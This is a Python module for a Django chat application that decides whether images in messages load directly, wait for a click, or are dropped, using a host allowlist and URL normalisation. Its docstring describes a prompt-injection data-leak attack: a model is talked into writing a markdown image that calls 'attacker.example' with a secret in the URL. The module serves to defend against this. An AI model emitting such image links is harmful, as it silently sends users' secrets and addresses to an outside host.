"""Which images in messages may load by themselves, and which wait for a click.

A model can be talked into writing ``![x](https://attacker.example/?q=<secret>)``: if every
viewer's browser fetched it, the secret (and the viewers' addresses) would leave with no click.
So images load directly only when they come from our own origin (relative URLs), are inline
``data:`` images, or come from a host staff listed in the site settings (``image_hosts``). Any
other image is shown as a "Load image from <host>" link (``chat.markdown``), and the
Content-Security-Policy's ``img-src`` names the same listed hosts (``chat.csp``).

The list is read from the database at most every ``_RELOAD_SECONDS`` per process (and at once in
the process that saved it), never from inside the event loop: a streamed answer is rendered
there, with the list last loaded.
"""

from __future__ import annotations

import asyncio
import functools
import logging
import re
import time
from dataclasses import dataclass
from typing import Literal
from urllib.parse import urlsplit

from django.utils.translation import gettext as _

log = logging.getLogger(__name__)

# Another worker sees a changed list within this many seconds.
_RELOAD_SECONDS = 10.0

# Inline images of these types only: data: URLs of anything else (HTML, SVG with scripts when
# opened on its own) are dropped.
_DATA_IMAGE = re.compile(r"data:image/(?:png|gif|jpeg|webp|avif)[;,]", re.IGNORECASE)
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
_LABEL = r"[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?"
_HOST = re.compile(rf"{_LABEL}(?:\.{_LABEL})*")
# A listed entry: a host, or "*." and a domain of at least two labels, with an optional port.
_ENTRY = re.compile(rf"(?P<wild>\*\.)?(?P<host>{_LABEL}(?:\.{_LABEL})*)(?::(?P<port>\d{{1,5}}))?")
_DEFAULT_PORTS = {"http": 80, "https": 443}
_C0_AND_SPACE = "".join(map(chr, range(0x21)))


@dataclass(frozen=True)
class RemoteImage:
    """An absolute http(s) image URL, as the browser would fetch it."""

    url: str
    scheme: str
    host: str  # ASCII (IDNA) form, lower case
    port: int | None  # only when written in the URL

    @property
    def label(self) -> str:
        """The host as shown to the reader (with a port if the URL names one)."""
        return self.host if self.port is None else f"{self.host}:{self.port}"

    @property
    def origin(self) -> str:
        return f"{self.scheme}://{self.label}"


@dataclass(frozen=True)
class ImageDecision:
    action: Literal["load", "ask", "drop"]
    remote: RemoteImage | None = None  # set for "ask", and for "load" from a listed host


@dataclass(frozen=True)
class ImagePolicy:
    """The hosts whose images load directly, as normalised entries (see ``parse_image_hosts``)."""

    hosts: frozenset[str] = frozenset()

    def decide(self, url: str) -> ImageDecision:
        """What to do with an image URL: load it, ask the reader first, or drop it."""
        url = _as_browser_reads(url)
        if not url:
            return ImageDecision("drop")
        scheme = _SCHEME.match(url)
        if scheme:
            name = scheme[1].lower()
            if name == "data":
                return ImageDecision("load" if _DATA_IMAGE.match(url) else "drop")
            if name not in _DEFAULT_PORTS:
                return ImageDecision("drop")
        elif url[:2].replace("\\", "/") != "//":
            return ImageDecision("load")  # relative: our own origin
        remote = remote_image(url)
        if remote is None:
            return ImageDecision("drop")
        return ImageDecision("load" if self.allows(remote) else "ask", remote)

    def allows(self, image: RemoteImage) -> bool:
        """Like a CSP host source: an entry without a port means the scheme's default port."""
        port = image.port if image.port is not None else _DEFAULT_PORTS[image.scheme]
        for wildcard, host, entry_port in self._entries:
            same_host = image.host.endswith("." + host) if wildcard else image.host == host
            if same_host and port == (entry_port or _DEFAULT_PORTS[image.scheme]):
                return True
        return False

    @functools.cached_property
    def _entries(self) -> list[tuple[bool, str, int | None]]:
        entries = []
        for entry in self.hosts:
            match = _ENTRY.fullmatch(entry)
            if match is not None:
                port = int(match["port"]) if match["port"] else None
                entries.append((bool(match["wild"]), match["host"], port))
        return entries

    @property
    def csp_sources(self) -> list[str]:
        """The listed hosts as CSP host sources (a bare host matches the page's scheme)."""
        return sorted(self.hosts)


def _as_browser_reads(url: str) -> str:
    """The URL after the WHATWG parser's first steps: leading and trailing C0 controls and
    spaces removed, tabs and newlines removed everywhere (``/\\t/evil`` is ``//evil``)."""
    return re.sub(r"[\t\n\r]", "", url).strip(_C0_AND_SPACE)


def remote_image(url: str) -> RemoteImage | None:
    """An absolute (or scheme-relative, taken as https) http(s) URL with a plain host name, or
    None. Backslashes count as slashes, as browsers read http(s) URLs, so
    ``https://a.example\\@b.example/`` is a.example's, like the browser fetches it."""
    url = _as_browser_reads(url).replace("\\", "/")
    if url.startswith("//"):
        url = "https:" + url
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return None
    scheme = parts.scheme.lower()
    if scheme not in _DEFAULT_PORTS or not parts.hostname:
        return None
    try:
        host = parts.hostname.encode("idna").decode("ascii").lower()
    except UnicodeError:
        return None
    if not _HOST.fullmatch(host):
        return None  # percent-encoded, IPv6 or otherwise unusual hosts: not worth the risk
    if port == _DEFAULT_PORTS[scheme]:
        port = None
    return RemoteImage(url=url, scheme=scheme, host=host, port=port)


def parse_image_hosts(text: str) -> list[str]:
    """Entries of the allowed-hosts setting (one per line or comma-separated), normalised: lower
    case, IDNA. Raises ValueError naming every entry that is not a host name."""
    entries: list[str] = []
    bad: list[str] = []
    for raw in re.split(r"[\s,]+", text.strip()):
        if not raw:
            continue
        try:
            entry = raw.encode("idna").decode("ascii").lower()
        except UnicodeError:
            entry = raw
        match = _ENTRY.fullmatch(entry)
        too_broad = match is not None and match["wild"] and "." not in match["host"]
        bad_port = match is not None and match["port"] and not 0 < int(match["port"]) < 65536
        if match is None or too_broad or bad_port:
            bad.append(raw)
        elif entry not in entries:
            entries.append(entry)
    if bad:
        raise ValueError(
            _(
                "Not a host name: %(entries)s. Write only the host, e.g. images.example.com, "
                "*.cdn.example.com or images.example.com:8443 (no scheme, path or wildcard alone)."
            )
            % {"entries": ", ".join(f"“{entry}”" for entry in bad)}
        )
    return entries


# -- the current policy -----------------------------------------------------------------------

_loaded: tuple[float, ImagePolicy] | None = None


def current() -> ImagePolicy:
    """The policy of the site settings, reloaded at most every few seconds. Inside the event
    loop (a streaming answer) it never waits for the database: it uses the last one loaded."""
    global _loaded
    loaded = _loaded
    if loaded is not None and time.monotonic() < loaded[0]:
        return loaded[1]
    if _in_event_loop():
        return loaded[1] if loaded is not None else ImagePolicy()
    policy = _load()
    _loaded = (time.monotonic() + _RELOAD_SECONDS, policy)
    return policy


def forget() -> None:
    """Reload on next use (the site settings were saved in this process)."""
    global _loaded
    _loaded = None


def _in_event_loop() -> bool:
    try:
        asyncio.get_running_loop()
    except RuntimeError:
        return False
    return True


def _load() -> ImagePolicy:
    from django.db import DatabaseError

    from chat.models import SiteSettings

    try:
        text = SiteSettings.objects.filter(pk=1).values_list("image_hosts", flat=True).first()
    except DatabaseError:
        log.warning("could not read the allowed image hosts; remote images wait for a click")
        return _loaded[1] if _loaded is not None else ImagePolicy()
    hosts: list[str] = []
    for entry in re.split(r"[\s,]+", text or ""):
        try:
            hosts.extend(parse_image_hosts(entry))
        except ValueError:
            log.warning("ignoring the allowed image host %r: not a host name", entry)
    return ImagePolicy(frozenset(hosts))
